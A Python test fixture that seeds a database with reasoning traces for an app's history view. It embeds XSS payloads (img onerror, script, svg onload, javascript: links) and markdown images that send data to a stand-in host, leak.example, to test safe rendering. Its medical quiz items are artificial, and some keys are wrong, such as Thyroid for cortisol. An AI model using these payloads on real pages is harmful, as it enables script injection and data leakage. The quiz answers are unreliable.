"""Traces that are in the database before the app starts: hostile text, and rows for the history."""

from pathlib import Path

from storage.database import Database
from storage.questions.records import NewQuestion
from storage.traces.records import Segment, SegmentKind, ThinkingFinishReason, TraceOutcome, TraceState
from tests.storage.samples import COMPLETED, begin, finish

HOSTILE = (
    "<img src=x onerror=window.__hit=1><script>window.__hit=2</script>\n"
    "![leak](https://leak.example/p.png?q=patient) [click](javascript:window.__hit=3)\n"
    "<b>bold</b> &lt;kept&gt; {{value}} ${window.__hit=4} "
    "\U0001f9ec\u200d\U0001fac0 \u05e9\u05dc\u05d5\u05dd \u202eabc\u202c"
)
HOSTILE_STEM = "Hostile stem <img src=x onerror=window.__hit=5> ![s](https://leak.example/s.png)"
HOSTILE_OPTION = "<svg onload=window.__hit=6> option"
FILLER_COUNT = 30
"""More than the history shows at once; older than the other rows."""
LOOKS_STEM = "A 30-year-old man has fatigue and koilonychia. His haemoglobin is 82 g/L. What does he have?"
HOSTILE_MODEL = "<i>model</i> {{value}} ${window.__hit=10}"
HOSTILE_ERROR = "Hostile error <img src=x onerror=window.__hit=7>"


def store_traces(home: Path) -> None:
    """Write them through the storage package, as the app would have."""
    database = Database(f"sqlite:///{home / 'm1.sqlite3'}")
    database.migrate()
    try:
        for number in range(FILLER_COUNT):
            filler = begin(database, NewQuestion(stem=f"Filler question {number}?"))
            finish(database, filler, _segment(SegmentKind.ANSWER, "Filler.", 1))
        _store_hostile(database)
        _store_plain(database)
        _store_one_of_everything(database)
    finally:
        database.dispose()


def _store_hostile(database: Database) -> None:
    question = NewQuestion(
        stem=HOSTILE_STEM, options={"A": HOSTILE_OPTION, "B": "![o](https://leak.example/o)"}, target="A"
    )
    trace = begin(database, question, model=HOSTILE_MODEL, system_prompt="<img src=x onerror=window.__hit=8>")
    outcome = TraceOutcome(
        state=TraceState.FAILED,
        thinking_finish_reason=ThinkingFinishReason.FAILED,
        error=HOSTILE_ERROR,
        answer_letter="B",
        option_probabilities={"A": 0.25, "B": 0.5},
        tokens_generated=5,
    )
    finish(
        database,
        trace,
        _segment(SegmentKind.THINK, f"{HOSTILE}\nNUL\x00here", 3),
        _segment(SegmentKind.WAIT, "Wait<img src=x onerror=window.__hit=9>", 1),
        _segment(SegmentKind.THINK, HOSTILE, 1),
        _segment(SegmentKind.CLOSE, "\n<u>Final Answer:</u>", 4),
        _segment(SegmentKind.ANSWER, HOSTILE, 1),
        outcome=outcome,
    )


def _store_plain(database: Database) -> None:
    wrong = begin(
        database, NewQuestion(stem="Which sutured vessel is torn?", options={"A": "Artery", "B": "Vein"}, target="A")
    )
    outcome = TraceOutcome(
        state=TraceState.COMPLETED,
        thinking_finish_reason=ThinkingFinishReason.BUDGET,
        answer_letter="B",
        is_correct=False,
        tokens_generated=12,
    )
    finish(
        database,
        wrong,
        _segment(SegmentKind.THINK, "Perhaps the zygomaticotemporal branch.", 8),
        _segment(SegmentKind.ANSWER, "It is quixotically B.", 4),
        outcome=outcome,
    )
    right = begin(
        database,
        NewQuestion(stem="Which sutured gland makes cortisol?", options={"A": "Adrenal", "B": "Thyroid"}, target="B"),
    )
    finish(database, right, _segment(SegmentKind.ANSWER, "Certainly B.", 4), outcome=COMPLETED)


def _store_one_of_everything(database: Database) -> None:
    options = {
        "A": "Anaemia",
        "B": "Polycythaemia, of which he would rather have a red face and itch after a hot bath",
        "C": "Pneumonoultramicroscopicsilicovolcanoconiosis" * 2,
    }
    trace = begin(database, NewQuestion(stem=LOOKS_STEM, options=options, target="A"))
    finish(
        database,
        trace,
        _segment(SegmentKind.THINK, "\n\n1. His haemoglobin is low.\n\n2. Low haemoglobin makes skin pale." * 3, 60),
        _segment(SegmentKind.WAIT, " Wait", 1),
        _segment(SegmentKind.THINK, ", is 82 g/L low for a man? The lower limit is about 130 g/L. Yes.", 22),
        _segment(SegmentKind.CLOSE, "\n\nTherefore, the final answer is", 8),
        _segment(SegmentKind.ANSWER, " B. Polycythaemia.", 7),
        outcome=TraceOutcome(
            state=TraceState.COMPLETED,
            thinking_finish_reason=ThinkingFinishReason.NATURAL,
            answer_letter="B",
            is_correct=False,
            option_probabilities={"A": 0.31, "B": 0.42, "C": 0.02},
            time_to_first_token_seconds=0.25,
            seconds=1.5,
            tokens_generated=90,
            tokens_per_second=70.5,
        ),
    )


def _segment(kind: SegmentKind, text: str, tokens: int) -> Segment:
    return Segment(kind=kind, text=text, token_ids=tuple(range(tokens)), token_count=tokens)
